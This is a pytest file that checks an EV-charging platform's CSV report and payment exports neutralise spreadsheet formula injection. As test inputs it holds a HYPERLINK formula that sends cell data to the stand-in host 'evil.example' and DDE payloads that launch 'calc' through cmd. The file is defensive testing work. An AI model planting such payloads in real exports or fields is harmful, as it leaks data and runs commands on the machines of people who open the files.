"""CSV exports open in a spreadsheet as data: names others typed cannot become formulas.
Attacked from outside: an operator names a site and a station like formulas over GraphQL and
downloads the reports over HTTP; the payments CSV is written from a payment whose card label came
from elsewhere."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime

import pytest
from beanie import PydanticObjectId

from domain.billing.models import Receipt, SessionPayment
from domain.billing.receipts import payments_csv
from domain.common.csvsafe import safe_cell
from domain.network.models import ConnectorStatus, Station, StatusInterval
from domain.reporting.service import ReportingService
from tests.api.conftest import Api, start_api
from tests.api.test_operator import create_site, register
from tests.domain.reporting.conftest import local, session

SITE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
STATION = "@SUM(1+1)*cmd|' /C calc'!A0"
RANGE = {"from": local(2024, 1, 15).isoformat(), "to": local(2024, 1, 17).isoformat()}


@pytest.fixture(scope="module")
async def api(database: object) -> AsyncIterator[Api]:
    async with start_api() as running:
        running.deps.reporting = ReportingService(clock=lambda: datetime(2025, 1, 1, tzinfo=UTC))
        yield running


async def test_report_csvs_neutralise_formulas(api: Api) -> None:
    _, admin = await api.operator()
    site_id = await create_site(api, admin, name=SITE)
    station = await Station.get(await register(api, admin, site_id, "CSV-1", name=STATION))
    assert station is not None
    for c in (1, 2):
        await StatusInterval(
            org_id=station.org_id, site_id=station.site_id, station_id=station.id,  # type: ignore[arg-type]
            connector_id=c, status=ConnectorStatus.CHARGING,
            start=local(2024, 1, 15, 17), end=local(2024, 1, 15, 19),
        ).insert()  # fmt: skip
    await session(station, 1, local(2024, 1, 15, 23), local(2024, 1, 16, 1), 6_000)
    auth = {"Authorization": f"Bearer {admin}"}
    cells: list[str] = []
    for path, group in (
        ("/reports/usage.csv", "SITE"),
        ("/reports/usage.csv", "STATION"),
        ("/reports/bottlenecks.csv", "DAY"),
    ):
        params = {**RANGE, "groupBy": group}
        response = await api.http.get(path, params=params, headers=auth)
        assert response.status_code == 200, response.text
        cells += [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
    assert "'" + SITE in cells and "'" + STATION in cells  # shown as typed, never evaluated
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c.startswith("-") and not c[1:].replace(".", "").isdigit()]


def test_the_payments_csv_neutralises_formulas() -> None:
    payment = SessionPayment(
        org_id=PydanticObjectId(),
        site_id=PydanticObjectId(),
        station_id=PydanticObjectId(),
        connector_id=1,
        payment_method_label="-2+3+cmd|' /C calc'!A0",
        intent_id="\t=1+1",
        receipt=Receipt(
            number=7,
            issued_at=datetime(2024, 1, 1, tzinfo=UTC),
            currency="EUR",
            vat_rate_bp=2500,
            lines=[],
            subtotal=400,
            vat=100,
            total=500,
            energy_wh=2000,
        ),
    )
    row = next(csv.DictReader(io.StringIO(payments_csv([payment]))))
    assert "'-2+3+cmd|' /C calc'!A0" in row.values()
    assert "'\t=1+1" in row.values()
    assert "5.00" in row.values()


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "+1"),  # a number, as laddnet writes numbers: unchanged
        ("-1.50", "-1.50"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Depot north", "Depot north"),
        (-3, -3),
    ],
)
def test_safe_cell(value: object, written: object) -> None:
    assert safe_cell(value) == written
